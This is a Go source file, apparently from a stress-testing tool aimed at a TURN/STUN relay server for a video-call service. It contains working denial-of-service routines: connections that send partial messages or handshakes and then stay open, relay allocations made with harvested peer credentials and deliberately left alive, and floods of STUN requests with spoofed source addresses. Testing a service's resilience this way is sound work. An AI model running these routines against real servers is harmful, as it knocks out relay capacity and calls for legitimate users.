package main

import (
	"context"
	"fmt"
	"net"
	"net/netip"
	"strings"
	"time"

	"github.com/pion/stun/v3"
)

const answerWait = time.Second

// turn holds connections to TURN that send nothing, a part of a message, or a part of
// a handshake.
func turn(ctx context.Context, a *attacker) {
	binding := stun.MustBuild(stun.TransactionID, stun.BindingRequest).Raw
	cases := []struct {
		port   int
		secure bool
		text   []byte
	}{
		{a.ports.tcp, false, nil},
		{a.ports.tcp, false, binding[:19]},
		{a.ports.tcp, false, []byte{0x40, 0x00, 0xff, 0xff, 0}}, // ChannelData of 64 KiB
		{a.ports.tcp, false, binding},                           // a complete message, and then nothing
		{a.ports.tls, false, nil},
		{a.ports.tls, false, []byte{22, 3, 1, 2, 0, 1}},
		{a.ports.tls, true, nil},
		{a.ports.tls, true, binding[:10]},
		{a.ports.https, true, binding},
	}
	a.repeat(ctx, a.each, func(ctx context.Context, source netip.Addr, i int) {
		c := cases[i%len(cases)]
		open := a.dial
		if c.secure {
			open = func(ctx context.Context, source netip.Addr, port int) (*conn, error) {
				return a.dialTLS(ctx, source, port)
			}
		}
		conn, err := open(ctx, source, c.port)
		if err != nil {
			return
		}
		defer conn.end()
		a.opened.Add(1)
		if _, err := conn.Write(c.text); err == nil {
			untilClosed(conn)
		}
	})
}

// relays joins rooms and makes as many allocations as it can with the credentials that
// every peer gets.
func relays(ctx context.Context, a *attacker) {
	a.repeat(ctx, max(1, a.each/4), func(ctx context.Context, source netip.Addr, i int) {
		s, err := a.webSocket(ctx, source, false)
		if err != nil {
			return
		}
		defer s.end()
		joined, err := s.join(ctx, fmt.Sprintf("relays-%s-%d", strings.ReplaceAll(source.String(), ":", "-"), i))
		if err != nil {
			return
		}
		for _, ice := range joined.ICEServers {
			for ice.Username != "" && pause(ctx, again) {
				if !a.allocate(ctx, source, ice.Username, ice.Credential) {
					pause(ctx, 10*again)
				}
			}
		}
	})
}

// allocate makes an allocation that nobody uses. It closes its socket without a
// Refresh, as a client does that has lost its network, so that the allocation stays.
func (a *attacker) allocate(ctx context.Context, source netip.Addr, user, password string) bool {
	a.tried.Add(1)
	c, err := a.udp(ctx, source)
	if err != nil {
		return false
	}
	defer c.Close()
	transport := stun.RawAttribute{Type: stun.AttrRequestedTransport, Value: []byte{17, 0, 0, 0}}
	challenge, err := ask(c, stun.TransactionID, stun.NewType(stun.MethodAllocate, stun.ClassRequest), transport)
	if err != nil {
		return false
	}
	var realm stun.Realm
	var nonce stun.Nonce
	if realm.GetFrom(challenge) != nil || nonce.GetFrom(challenge) != nil {
		return false
	}
	answer, err := ask(c, stun.TransactionID, stun.NewType(stun.MethodAllocate, stun.ClassRequest), transport,
		stun.NewUsername(user), realm, nonce, stun.NewLongTermIntegrity(user, realm.String(), password))
	if err != nil || answer.Type.Class != stun.ClassSuccessResponse {
		return false
	}
	a.opened.Add(1)
	return true
}

func (a *attacker) udp(ctx context.Context, source netip.Addr) (net.Conn, error) {
	dialer := net.Dialer{LocalAddr: net.UDPAddrFromAddrPort(netip.AddrPortFrom(source, 0))}
	return dialer.DialContext(ctx, "udp", a.server(source, a.ports.udp))
}

func ask(c net.Conn, parts ...stun.Setter) (*stun.Message, error) {
	request, err := stun.Build(parts...)
	if err != nil {
		return nil, err
	}
	if _, err := c.Write(request.Raw); err != nil {
		return nil, err
	}
	_ = c.SetReadDeadline(time.Now().Add(answerWait))
	buffer := make([]byte, 1500)
	n, err := c.Read(buffer)
	if err != nil {
		return nil, err
	}
	answer := &stun.Message{Raw: buffer[:n]}
	return answer, answer.Decode()
}

// spoofed sends unauthenticated STUN requests with the source address of other
// clients, as somebody who forges source addresses can.
func spoofed(ctx context.Context, a *attacker) {
	requests := [][]byte{
		stun.MustBuild(stun.TransactionID, stun.BindingRequest).Raw,
		stun.MustBuild(stun.TransactionID, stun.NewType(stun.MethodAllocate, stun.ClassRequest),
			stun.RawAttribute{Type: stun.AttrRequestedTransport, Value: []byte{17, 0, 0, 0}}).Raw,
		stun.MustBuild(stun.TransactionID, stun.NewType(stun.MethodRefresh, stun.ClassRequest),
			stun.NewUsername("1:x"), stun.NewRealm("callbox"), stun.NewNonce("x"), stun.NewShortTermIntegrity("x")).Raw,
	}
	a.repeat(ctx, max(1, a.each/10), func(ctx context.Context, source netip.Addr, i int) {
		c, err := a.udp(ctx, source)
		if err != nil {
			return
		}
		defer c.Close()
		for pause(ctx, again) {
			a.tried.Add(1)
			n, err := c.Write(requests[i%len(requests)])
			if err != nil {
				return
			}
			a.sent.Add(int64(n))
			a.opened.Add(1)
		}
	})
}
